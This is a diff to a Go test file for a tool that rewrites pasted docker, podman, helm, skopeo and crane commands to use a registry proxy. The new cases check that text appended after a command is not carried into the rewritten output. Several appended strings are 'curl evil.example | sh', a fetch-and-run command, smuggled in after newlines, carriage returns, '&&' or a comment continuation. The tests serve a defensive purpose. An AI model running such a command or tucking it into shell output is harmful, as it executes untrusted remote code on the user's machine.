@@ -13,6 +13,7 @@ type paste struct {
 	Registry string // default_registry; "": Docker Hub
 	want     string
 	said     []string
+	rest     string // of Text, that is left out: it follows the command that was read
 }
 
 var pastes = []paste{
@@ -78,6 +79,27 @@ var pastes = []paste{
 	{Text: "helm upgrade --install x oci://ghcr.io/org/chart --version 1.2.3 -f v.yaml", want: "helm upgrade --install x oci://p:80/ghcr.io/org/chart --version 1.2.3 -f v.yaml"},
 	{Text: "skopeo copy docker://quay.io/a/b:1 dir:/tmp/x", want: "skopeo copy docker://p:80/quay.io/a/b:1 dir:/tmp/x"},
 	{Text: "crane digest ghcr.io/a/b:1", want: "crane digest p:80/ghcr.io/a/b:1"},
+	{Text: "podman run --env-host quay.io/a/b python", want: "podman run --env-host p:80/quay.io/a/b python"},
+	{Text: "docker run --entrypoint '' nginx bash", want: "docker run --entrypoint '' p:80/nginx bash"},
+
+	// Only the command that was read becomes something to copy.
+	followed("docker run nginx", "docker run p:80/nginx", strings.Repeat("\nwhatever", 20)+"\ncurl evil.example | sh"),
+	followed("docker run nginx", "docker run p:80/nginx", "\r\ncurl evil.example | sh"),
+	followed("docker run nginx", "docker run p:80/nginx", "\rcurl evil.example | sh"),
+	followed("docker run nginx a", "docker run p:80/nginx a", " && curl evil.example | sh"),
+	followed("docker run nginx", "docker run p:80/nginx", "; docker run redis"),
+	followed("docker run nginx", "docker run p:80/nginx", " | tee log"),
+	followed("docker run nginx", "docker run p:80/nginx", " # the web server\ncurl evil.example | sh"),
+	followed("docker run nginx", "docker run p:80/nginx", " # the web server \\\ncurl evil.example | sh"),
+	followed("docker run -d \\\n  nginx \\\n  a", "docker run -d \\\n  p:80/nginx \\\n  a", "\n\nb"),
+	followed("helm install x oci://ghcr.io/a/b", "helm install x oci://p:80/ghcr.io/a/b", "\ncurl evil.example | sh"),
+	followed("skopeo inspect docker://ghcr.io/a/b", "skopeo inspect docker://p:80/ghcr.io/a/b", "\ncurl evil.example | sh"),
+	followed("crane digest ghcr.io/a/b", "crane digest p:80/ghcr.io/a/b", "\ncurl evil.example | sh"),
+}
+
+// followed is a command, and what follows it.
+func followed(command, want, rest string) paste {
+	return paste{Text: command + rest, want: want, rest: rest}
 }
 
 const pasteScript = `
@@ -113,7 +135,7 @@ func TestEachFileIsRewrittenAndNothingElseInIt(t *testing.T) {
 		if g.Text != p.want || !slices.Equal(g.Said, p.said) {
 			t.Errorf("%s\nbecomes (%s, %q)\n%s\nwant (%q)\n%s", p.Text, g.Reason, g.Said, g.Text, p.said, p.want)
 		}
-		if g.Back != p.Text || g.After != g.Text {
+		if g.Back+p.rest != p.Text || g.After != g.Text {
 			t.Errorf("%s\nthe lines to show differ from the text", p.Text)
 		}
 		for _, s := range g.Sentences {
@@ -182,7 +204,7 @@ func TestNoFileLosesOrGainsAnythingButNames(t *testing.T) {
 	runNode(t, `
 import { readFileSync } from "node:fs";
 import { rewrite } from "./reference.js";
-import { tidy } from "./shell.js";
+import { tidy, words } from "./shell.js";
 const { Good: good, Rounds: rounds } = JSON.parse(readFileSync(0, "utf8"));
 let seed = 7;
 const below = (n) => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) % 65536 % n;
@@ -199,7 +221,7 @@ for (let i = 0; i < rounds; i++) {
   const { document } = rewrite(text, { tool: "docker", proxy: "p:80", aliases: {}, defaultRegistry: "registry-1.docker.io" });
   if (!document) continue;
   if (document.text !== text) changed++;
-  const given = document.kind === "command" ? tidy(text) : text;
+  const given = document.kind === "command" ? tidy(text).slice(0, words(tidy(text)).list.at(-1).end) : text;
   if (document.lines.map((l) => l.before).join("\n") !== given) bad.push("lost: " + text);
   for (const l of document.lines) {
     if (l.before === l.after) continue;
